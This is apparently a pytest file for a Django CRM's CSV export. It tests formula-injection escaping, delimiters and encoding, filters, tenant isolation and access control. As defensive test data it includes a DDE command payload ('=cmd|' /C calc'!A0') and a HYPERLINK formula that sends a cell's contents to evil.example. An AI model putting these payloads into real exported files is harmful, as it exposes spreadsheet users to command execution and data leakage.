"""CSV export: the filtered customer list and transactions, safe for spreadsheets."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from customers.exporting import CsvStyle, csv_lines, safe_cell
from tests.customers.import_support import response_rows
from tests.factories import CustomerFactory, TransactionFactory

ISTANBUL = ZoneInfo("Europe/Istanbul")


def url(name: str, tenant) -> str:
    return reverse(f"customers:{name}", kwargs={"tenant_slug": tenant.slug})


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+905321234567", "'+905321234567"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12,50", "-12,50"),
        ("-12.5", "-12.5"),
        ("Ayşe", "Ayşe"),
        ("", ""),
    ],
)
def test_safe_cell_neutralises_formulas_but_not_negative_numbers(value, expected):
    assert safe_cell(value) == expected


# What a spreadsheet runs as a formula (OWASP's list), written here independently of the code.
def _starts_a_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
        r"-[0-9]+(?:[.,][0-9]+)?", cell
    )


_VALUES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.dates(),
    st.datetimes(timezones=st.just(ISTANBUL)),
    st.text(),
    st.lists(st.text(), max_size=4),
    st.sampled_from(["=1+1", "-1\n", "-١", "+90", "@x", "\t=1", "\r=1", "-2,5", "-3"]),
)


@hypothesis_settings(max_examples=300, deadline=None)
@given(
    header=st.lists(st.text(), min_size=1, max_size=4),
    rows=st.lists(st.lists(_VALUES, min_size=1, max_size=5), max_size=5),
    turkish_excel=st.booleans(),
)
def test_no_exported_cell_can_start_a_formula(header, rows, turkish_excel):
    style = CsvStyle(turkish_excel=turkish_excel, zone=ISTANBUL)

    text = "".join(csv_lines(header, rows, style)).removeprefix("\ufeff")
    cells = [
        cell
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=style.delimiter)
        for cell in line
    ]

    assert not [cell for cell in cells if _starts_a_formula(cell)]
    assert len(cells) == len(header) + sum(len(row) for row in rows)


def test_a_formula_in_a_list_value_is_neutralised():
    style = CsvStyle(turkish_excel=True, zone=ISTANBUL)

    lines = list(csv_lines(["tags"], [[['=HYPERLINK("http://evil.example/?"&E2)', "vip"]]], style))

    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?""&E2)|vip"\r\n'


def test_customer_export_escapes_formula_cells(tenant, manager_client):
    CustomerFactory(
        tenant=tenant, first_name="=cmd|' /C calc'!A0", last_name="@Kaya", external_id="M1"
    )

    response = manager_client.get(url("export", tenant))

    assert response.status_code == 200
    assert response.streaming
    rows = response_rows(response)
    header = rows[0]
    row = dict(zip(header, rows[1], strict=True))
    assert row["first_name"] == "'=cmd|' /C calc'!A0"
    assert row["last_name"] == "'@Kaya"


def test_customer_export_is_utf8_with_bom_and_semicolons_by_default(tenant, manager_client):
    CustomerFactory(tenant=tenant, first_name="Şükrü", last_name="Iğdırlı", external_id="M1")

    response = manager_client.get(url("export", tenant))
    body = b"".join(response.streaming_content)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert body.startswith("\ufeff".encode())
    assert body.decode("utf-8-sig").startswith("external_id;kind;first_name;")
    assert "Şükrü;Iğdırlı" in body.decode("utf-8-sig")


def test_customer_export_comma_format(tenant, manager_client):
    CustomerFactory(tenant=tenant, first_name="Ali", external_id="M1")

    body = b"".join(manager_client.get(url("export", tenant) + "?format=comma").streaming_content)

    assert body.decode("utf-8-sig").startswith("external_id,kind,first_name,")


def test_customer_export_honours_the_list_filters(tenant, manager_client):
    CustomerFactory(tenant=tenant, external_id="A1", lifecycle_stage="active")
    CustomerFactory(tenant=tenant, external_id="A2", lifecycle_stage="active")
    CustomerFactory(tenant=tenant, external_id="P1", lifecycle_stage="prospect")
    CustomerFactory(
        tenant=tenant, external_id="X1", lifecycle_stage="active", archived_at=timezone.now()
    )

    rows = response_rows(
        manager_client.get(url("export", tenant) + "?lifecycle_stage=active&page=3")
    )

    assert sorted(row[0] for row in rows[1:]) == ["A1", "A2"]


def test_customer_export_never_includes_another_tenants_customers(
    tenant, other_tenant, manager_client
):
    CustomerFactory(tenant=tenant, external_id="OURS")
    CustomerFactory(tenant=other_tenant, external_id="THEIRS")

    rows = response_rows(manager_client.get(url("export", tenant)))

    assert [row[0] for row in rows[1:]] == ["OURS"]


def test_exported_customers_import_back_unchanged(tenant, manager_client, tmp_path, settings):
    from django_scopes import scope

    from customers.models import ImportKind
    from tests.customers.import_support import run_import

    settings.MEDIA_ROOT = str(tmp_path / "media")
    CustomerFactory(
        tenant=tenant, external_id="M1", email="a@example.com", phone="+905321234567",
        tags=["vip"], consent_sms=True,
    )  # fmt: skip
    body = b"".join(manager_client.get(url("export", tenant)).streaming_content)

    with scope(tenant=tenant):
        job = run_import(tenant, ImportKind.CUSTOMERS, body, tmp_path)

    assert (job.rejected_rows, job.updated_rows, job.unchanged_rows) == (0, 0, 1), job.rejections


def test_a_formula_tag_is_exported_as_text_and_imports_back_unchanged(
    tenant, manager_client, tmp_path, settings
):
    from django_scopes import scope

    from customers.models import ImportKind
    from tests.customers.import_support import run_import

    settings.MEDIA_ROOT = str(tmp_path / "media")
    CustomerFactory(
        tenant=tenant, external_id="M1", tags=['=HYPERLINK("http://evil.example/?"&E2)', "vip"]
    )
    response = manager_client.get(url("export", tenant))
    body = b"".join(response.streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))

    assert dict(zip(rows[0], rows[1], strict=True))["tags"] == (
        '\'=HYPERLINK("http://evil.example/?"&E2)|vip'
    )
    with scope(tenant=tenant):
        job = run_import(tenant, ImportKind.CUSTOMERS, body, tmp_path)
    assert (job.rejected_rows, job.updated_rows, job.unchanged_rows) == (0, 0, 1), job.rejections


def test_transaction_export_filters_by_date_range_in_the_tenant_zone(tenant, manager_client):
    customer = CustomerFactory(tenant=tenant, external_id="M1", first_name="Ali", last_name="Kaya")
    for external_id, day, hour in (("S1", 1, 10), ("S2", 2, 0), ("S3", 3, 23), ("S4", 4, 0)):
        TransactionFactory(
            tenant=tenant, customer=customer, external_id=external_id,
            occurred_at=datetime(2024, 3, day, hour, tzinfo=ISTANBUL), amount=Decimal("1234.50"),
        )  # fmt: skip
    TransactionFactory(external_id="OTHER", occurred_at=datetime(2024, 3, 2, tzinfo=ISTANBUL))

    response = manager_client.get(
        url("export_transactions", tenant) + "?date_from=2024-03-02&date_to=2024-03-03"
    )

    rows = response_rows(response)
    assert rows[0][:4] == ["external_id", "customer_external_id", "occurred_at", "amount"]
    assert [row[0] for row in rows[1:]] == ["S2", "S3"]
    assert rows[1][1:4] == ["M1", "02.03.2024 00:00", "1234,50"]
    assert rows[1][-1] == "Ali Kaya"


def test_transaction_export_rejects_an_inverted_range(tenant, manager_client):
    response = manager_client.get(
        url("export_transactions", tenant) + "?date_from=2024-03-05&date_to=2024-03-01"
    )

    assert response.status_code == 400


@pytest.mark.parametrize("name", ["export", "export_transactions"])
def test_member_of_another_tenant_gets_404_on_exports(tenant, other_tenant_client, name):
    assert other_tenant_client.get(url(name, tenant)).status_code == 404


@pytest.mark.parametrize("name", ["export", "export_transactions"])
def test_outsider_gets_404_on_exports(tenant, outsider_client, name):
    assert outsider_client.get(url(name, tenant)).status_code == 404


def test_list_header_shows_import_only_to_managers(tenant, sales_client, manager_client):
    imports = url("imports", tenant)

    assert imports not in sales_client.get(url("list", tenant)).text
    manager_page = manager_client.get(url("list", tenant) + "?lifecycle_stage=active").text
    assert imports in manager_page
    assert url("export", tenant) + "?lifecycle_stage=active&amp;format=semicolon" in manager_page


def test_managers_can_open_the_transaction_export_form(tenant, manager_client):
    response = manager_client.get(url("export_transactions_form", tenant))

    assert response.status_code == 200
    assert url("export_transactions", tenant) in response.text


def test_transaction_export_form_is_404_for_another_tenants_member(tenant, other_tenant_client):
    assert other_tenant_client.get(url("export_transactions_form", tenant)).status_code == 404


def test_filtering_the_list_with_htmx_refreshes_the_export_link(tenant, manager_client):
    url = reverse("customers:list", kwargs={"tenant_slug": tenant.slug})
    response = manager_client.get(url, {"region": "Ege"}, HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert 'id="customer-list-actions" class="d-flex flex-wrap gap-2" hx-swap-oob="true"' in body
    assert "region=Ege&amp;format=semicolon" in body
